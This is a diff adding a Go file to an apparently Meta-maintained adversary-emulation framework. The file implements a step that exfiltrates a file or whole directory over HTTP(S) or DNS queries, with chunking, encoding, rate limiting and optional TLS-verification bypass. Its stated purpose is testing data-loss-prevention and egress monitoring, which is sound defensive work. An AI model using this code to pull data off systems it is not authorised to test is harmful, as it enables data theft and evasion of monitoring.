@@ -0,0 +1,445 @@
+/*
+Copyright © 2024-present, Meta Platforms, Inc. and affiliates
+Permission is hereby granted, free of charge, to any person obtaining a copy
+of this software and associated documentation files (the "Software"), to deal
+in the Software without restriction, including without limitation the rights
+to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
+copies of the Software, and to permit persons to whom the Software is
+furnished to do so, subject to the following conditions:
+The above copyright notice and this permission notice shall be included in
+all copies or substantial portions of the Software.
+THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
+AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
+LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
+OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN
+THE SOFTWARE.
+*/
+package blocks
+
+import (
+	"bytes"
+	"compress/gzip"
+	"crypto/tls"
+	"encoding/base64"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"os"
+	"path/filepath"
+	"sort"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/facebookincubator/ttpforge/pkg/fileutils"
+	"github.com/facebookincubator/ttpforge/pkg/logging"
+	"github.com/spf13/afero"
+)
+
+// Supported exfiltration encodings
+const (
+	ExfilEncodingRaw    = "raw"
+	ExfilEncodingBase64 = "base64"
+	ExfilEncodingGzip   = "gzip"
+)
+
+// DefaultExfilChunkSize is the default size of the
+// payload sent in each request to an HTTP endpoint
+const DefaultExfilChunkSize = 64 << 10
+
+// DefaultExfilTimeout is the default time limit for each request to an HTTP endpoint
+const DefaultExfilTimeout = 30 * time.Second
+
+// ExfiltrateStep sends a file, or every file in a directory, to
+// an HTTP(S) endpoint or through DNS queries. Its intended use is
+// exercising data loss prevention and egress monitoring (T1048
+// and T1041) without hand-writing curl commands.
+type ExfiltrateStep struct {
+	actionDefaults     `yaml:",inline"`
+	Path               string        `yaml:"exfiltrate,omitempty"`
+	To                 string        `yaml:"to,omitempty"`
+	Method             string        `yaml:"method,omitempty"`
+	Headers            []*HTTPHeader `yaml:"headers,omitempty"`
+	DNS                *DNSTarget    `yaml:"dns,omitempty"`
+	Encoding           string        `yaml:"encoding,omitempty"`
+	ChunkSize          int           `yaml:"chunk_size,omitempty"`
+	RateLimit          int           `yaml:"rate_limit,omitempty"`
+	Proxy              string        `yaml:"proxy,omitempty"`
+	InsecureSkipVerify bool          `yaml:"insecure_skip_verify,omitempty"`
+	Timeout            string        `yaml:"timeout,omitempty"`
+	FileSystem         afero.Fs      `yaml:"-,omitempty"`
+}
+
+// exfilStats tracks the progress of an exfiltration
+type exfilStats struct {
+	start     time.Time
+	bytesRead int
+	bytesSent int
+	chunks    int
+}
+
+// NewExfiltrateStep creates a new ExfiltrateStep instance and returns a pointer to it.
+func NewExfiltrateStep() *ExfiltrateStep {
+	return &ExfiltrateStep{}
+}
+
+// IsNil checks if the step is nil or empty and returns a boolean value.
+func (s *ExfiltrateStep) IsNil() bool {
+	switch s.Path {
+	case "":
+		return true
+	default:
+		return false
+	}
+}
+
+// Validate validates the step, checking for the necessary attributes and dependencies.
+func (s *ExfiltrateStep) Validate(execCtx TTPExecutionContext) error {
+	if s.Path == "" {
+		return fmt.Errorf("exfiltrate field cannot be empty")
+	}
+	if (s.To == "") == (s.DNS == nil) {
+		return fmt.Errorf("exactly one of to or dns must be specified")
+	}
+	if s.To != "" && !execCtx.containsStepTemplating(s.To) {
+		uri, err := url.Parse(s.To)
+		if err != nil {
+			return err
+		}
+		if uri.Host == "" || (uri.Scheme != "http" && uri.Scheme != "https") {
+			return fmt.Errorf("invalid HTTP(S) URL given for to: %v", s.To)
+		}
+	}
+	if s.DNS != nil {
+		if err := s.DNS.Validate(); err != nil {
+			return err
+		}
+		if s.Method != "" || len(s.Headers) > 0 || s.Proxy != "" || s.InsecureSkipVerify || s.Timeout != "" {
+			return fmt.Errorf("method, headers, proxy, insecure_skip_verify and timeout cannot be used with dns")
+		}
+	}
+	switch strings.ToUpper(s.Method) {
+	case "", http.MethodPost, http.MethodPut:
+	default:
+		return fmt.Errorf("method must be POST or PUT, got %v", s.Method)
+	}
+	for _, header := range s.Headers {
+		if header.Field == "" || header.Value == "" {
+			return fmt.Errorf("broken HTTP header %s: %s", header.Value, header.Field)
+		}
+	}
+	switch s.Encoding {
+	case "", ExfilEncodingRaw, ExfilEncodingBase64, ExfilEncodingGzip:
+	default:
+		return fmt.Errorf("encoding must be one of %v, %v or %v, got %v",
+			ExfilEncodingRaw, ExfilEncodingBase64, ExfilEncodingGzip, s.Encoding)
+	}
+	if s.ChunkSize < 0 || s.RateLimit < 0 {
+		return fmt.Errorf("chunk_size and rate_limit cannot be negative")
+	}
+	if _, err := s.requestTimeout(); err != nil {
+		return err
+	}
+	if s.Proxy != "" && !execCtx.containsStepTemplating(s.Proxy) {
+		uri, err := url.Parse(s.Proxy)
+		if err != nil {
+			return err
+		} else if uri.Host == "" || uri.Scheme == "" {
+			return fmt.Errorf("invalid URL given for Proxy: %s", s.Proxy)
+		}
+	}
+	return nil
+}
+
+// Template takes each applicable field in the step and replaces any template strings with their resolved values.
+//
+// **Returns:**
+//
+// error: error if template resolution fails, nil otherwise
+func (s *ExfiltrateStep) Template(execCtx TTPExecutionContext) error {
+	var err error
+	s.Path, err = execCtx.templateStep(s.Path)
+	if err != nil {
+		return err
+	}
+	s.To, err = execCtx.templateStep(s.To)
+	if err != nil {
+		return err
+	}
+	s.Proxy, err = execCtx.templateStep(s.Proxy)
+	if err != nil {
+		return err
+	}
+	for _, header := range s.Headers {
+		header.Value, err = execCtx.templateStep(header.Value)
+		if err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// Execute runs the step and returns an error if one occurs.
+func (s *ExfiltrateStep) Execute(execCtx TTPExecutionContext) (*ActResult, error) {
+	if execCtx.Backend != nil {
+		return nil, fmt.Errorf("exfiltrate action is not yet supported with remote: execution")
+	}
+	fsys := s.FileSystem
+	if fsys == nil {
+		fsys = afero.NewOsFs()
+	}
+	root, err := fileutils.ExpandPath(s.Path)
+	if err != nil {
+		return nil, err
+	}
+	files, err := listExfilFiles(fsys, root)
+	if err != nil {
+		return nil, err
+	}
+
+	var send func(name string, fileIndex, chunkIndex, chunkCount int, chunk []byte) error
+	chunkSize := s.ChunkSize
+	if s.DNS != nil {
+		capacity, err := dnsChunkCapacity(s.DNS.Domain)
+		if err != nil {
+			return nil, err
+		}
+		if chunkSize == 0 {
+			chunkSize = capacity
+		} else if chunkSize > capacity {
+			return nil, fmt.Errorf("chunk_size %d is too large to fit in a query for %v - the maximum is %d", chunkSize, s.DNS.Domain, capacity)
+		}
+		resolver := s.DNS.resolverAddress()
+		logging.L().Infof("Exfiltrating %d file(s) from %v through DNS queries for %v to %v", len(files), root, s.DNS.Domain, resolver)
+		send = func(_ string, fileIndex, chunkIndex, _ int, chunk []byte) error {
+			_, err := sendDNSQuery(resolver, dnsQueryName(s.DNS.Domain, fileIndex, chunkIndex, chunk))
+			return err
+		}
+	} else {
+		if chunkSize == 0 {
+			chunkSize = DefaultExfilChunkSize
+		}
+		client, err := s.httpClient(execCtx)
+		if err != nil {
+			return nil, err
+		}
+		defer client.CloseIdleConnections()
+		logging.L().Infof("Exfiltrating %d file(s) from %v to %v", len(files), root, s.To)
+		send = func(name string, _, chunkIndex, chunkCount int, chunk []byte) error {
+			return s.sendHTTPChunk(client, name, chunkIndex, chunkCount, chunk)
+		}
+	}
+
+	stats := &exfilStats{start: time.Now()}
+	names := make([]string, 0, len(files))
+	for fileIndex, file := range files {
+		name, err := filepath.Rel(filepath.Dir(root), file)
+		if err != nil {
+			return nil, err
+		}
+		name = filepath.ToSlash(name)
+		data, err := afero.ReadFile(fsys, file)
+		if err != nil {
+			return nil, err
+		}
+		stats.bytesRead += len(data)
+		payload, err := encodeExfilPayload(data, s.Encoding)
+		if err != nil {
+			return nil, err
+		}
+
+		chunkCount := (len(payload) + chunkSize - 1) / chunkSize
+		if chunkCount == 0 {
+			// empty files are still announced to the receiver
+			chunkCount = 1
+		}
+		if s.DNS != nil && (chunkCount > maxDNSIndex || fileIndex > maxDNSIndex) {
+			return nil, fmt.Errorf("%v needs too many DNS queries - increase chunk_size or exfiltrate fewer files", file)
+		}
+		logging.L().Infof("Sending %v (%d bytes) in %d chunk(s)", name, len(payload), chunkCount)
+		for chunkIndex := 0; chunkIndex < chunkCount; chunkIndex++ {
+			chunk := payload[chunkIndex*chunkSize : min((chunkIndex+1)*chunkSize, len(payload))]
+			s.throttle(stats)
+			if err := send(name, fileIndex, chunkIndex, chunkCount, chunk); err != nil {
+				return nil, fmt.Errorf("failed to send chunk %d of %v: %w", chunkIndex+1, name, err)
+			}
+			stats.bytesSent += len(chunk)
+			stats.chunks++
+		}
+		names = append(names, name)
+	}
+	logging.L().Infof("Sent %d bytes in %d chunk(s)", stats.bytesSent, stats.chunks)
+
+	result := &ActResult{
+		Outputs: map[string]string{
+			"bytes_read": strconv.Itoa(stats.bytesRead),
+			"bytes_sent": strconv.Itoa(stats.bytesSent),
+			"chunks":     strconv.Itoa(stats.chunks),
+			"files":      strings.Join(names, "\n"),
+		},
+		TypedOutputs: map[string]any{
+			"bytes_read": stats.bytesRead,
+			"bytes_sent": stats.bytesSent,
+			"chunks":     stats.chunks,
+			"files":      stringList(names),
+		},
+	}
+	if err := s.extractOutputs(result); err != nil {
+		return nil, err
+	}
+	return result, nil
+}
+
+// throttle waits until sending the next chunk would keep the
+// average rate since the start at or below the rate limit
+func (s *ExfiltrateStep) throttle(stats *exfilStats) {
+	if s.RateLimit == 0 {
+		return
+	}
+	due := stats.start.Add(time.Duration(float64(stats.bytesSent) / float64(s.RateLimit) * float64(time.Second)))
+	if wait := time.Until(due); wait > 0 {
+		time.Sleep(wait)
+	}
+}
+
+// listExfilFiles returns root if it is a file, or every
+// regular file beneath it in lexical order if it is a directory
+func listExfilFiles(fsys afero.Fs, root string) ([]string, error) {
+	info, err := fsys.Stat(root)
+	if err != nil {
+		return nil, err
+	}
+	if !info.IsDir() {
+		return []string{root}, nil
+	}
+	var files []string
+	err = afero.Walk(fsys, root, func(path string, info os.FileInfo, err error) error {
+		if err != nil {
+			return err
+		}
+		if info.Mode().IsRegular() {
+			files = append(files, path)
+		}
+		return nil
+	})
+	if err != nil {
+		return nil, err
+	}
+	sort.Strings(files)
+	return files, nil
+}
+
+// encodeExfilPayload encodes the contents of a file before it is chunked
+func encodeExfilPayload(data []byte, encoding string) ([]byte, error) {
+	switch encoding {
+	case ExfilEncodingBase64:
+		encoded := make([]byte, base64.StdEncoding.EncodedLen(len(data)))
+		base64.StdEncoding.Encode(encoded, data)
+		return encoded, nil
+	case ExfilEncodingGzip:
+		var buf bytes.Buffer
+		zw := gzip.NewWriter(&buf)
+		if _, err := zw.Write(data); err != nil {
+			return nil, err
+		}
+		if err := zw.Close(); err != nil {
+			return nil, err
+		}
+		return buf.Bytes(), nil
+	default:
+		return data, nil
+	}
+}
+
+// requestTimeout returns the time limit for each HTTP request
+func (s *ExfiltrateStep) requestTimeout() (time.Duration, error) {
+	if s.Timeout == "" {
+		return DefaultExfilTimeout, nil
+	}
+	timeout, err := time.ParseDuration(s.Timeout)
+	if err != nil || timeout <= 0 {
+		return 0, fmt.Errorf("invalid timeout %q", s.Timeout)
+	}
+	return timeout, nil
+}
+
+func (s *ExfiltrateStep) httpClient(execCtx TTPExecutionContext) (*http.Client, error) {
+	timeout, err := s.requestTimeout()
+	if err != nil {
+		return nil, err
+	}
+	tr := &http.Transport{}
+	if s.InsecureSkipVerify {
+		// #nosec G402
+		tr.TLSClientConfig = &tls.Config{
+			InsecureSkipVerify: true,
+			MinVersion:         tls.VersionTLS13,
+		}
+	}
+	if s.Proxy != "" && !execCtx.Cfg.NoProxy {
+		proxyURI, err := url.Parse(s.Proxy)
+		if err != nil {
+			return nil, err
+		}
+		tr.Proxy = http.ProxyURL(proxyURI)
+	}
+	// a receiver that stops responding would otherwise hang the step
+	return &http.Client{Transport: tr, Timeout: timeout}, nil
+}
+
+// sendHTTPChunk sends one chunk of a file, identifying it through headers
+// so that the receiver can reassemble the file
+func (s *ExfiltrateStep) sendHTTPChunk(client *http.Client, name string, chunkIndex, chunkCount int, chunk []byte) error {
+	method := http.MethodPost
+	if s.Method != "" {
+		method = strings.ToUpper(s.Method)
+	}
+	req, err := http.NewRequest(method, s.To, bytes.NewReader(chunk))
+	if err != nil {
+		return fmt.Errorf("error creating request: %w", err)
+	}
+	req.Header.Set("Content-Type", "application/octet-stream")
+	if s.Encoding == ExfilEncodingBase64 {
+		req.Header.Set("Content-Type", "text/plain")
+	}
+	req.Header.Set("X-File-Name", name)
+	req.Header.Set("X-Chunk-Index", strconv.Itoa(chunkIndex))
+	req.Header.Set("X-Chunk-Count", strconv.Itoa(chunkCount))
+	for _, header := range s.Headers {
+		req.Header.Set(header.Field, header.Value)
+	}
+
+	resp, err := client.Do(req)
+	if err != nil {
+		return err
+	}
+	defer resp.Body.Close()
+	_, _ = io.Copy(io.Discard, resp.Body)
+	if resp.StatusCode < 200 || resp.StatusCode > 299 {
+		return fmt.Errorf("server responded with status %v", resp.Status)
+	}
+	return nil
+}
+
+// dnsQueryName encodes a chunk as a query name of the form
+// <data>.<chunk>.<file>.<domain>, where the data is split
+// across as many labels as needed
+func dnsQueryName(domain string, fileIndex, chunkIndex int, chunk []byte) string {
+	labels := append(dnsDataLabels(chunk), strconv.Itoa(chunkIndex), strconv.Itoa(fileIndex), strings.Trim(domain, "."))
+	return strings.Join(labels, ".")
+}
+
+// dnsChunkCapacity returns the largest chunk that fits
+// in a query name for the domain
+func dnsChunkCapacity(domain string) (int, error) {
+	for size := maxDNSNameLength; size > 0; size-- {
+		chunk := make([]byte, size)
+		if len(dnsQueryName(domain, maxDNSIndex, maxDNSIndex, chunk)) <= maxDNSNameLength {
+			return size, nil
+		}
+	}
+	return 0, fmt.Errorf("domain %v is too long to exfiltrate data through", domain)
+}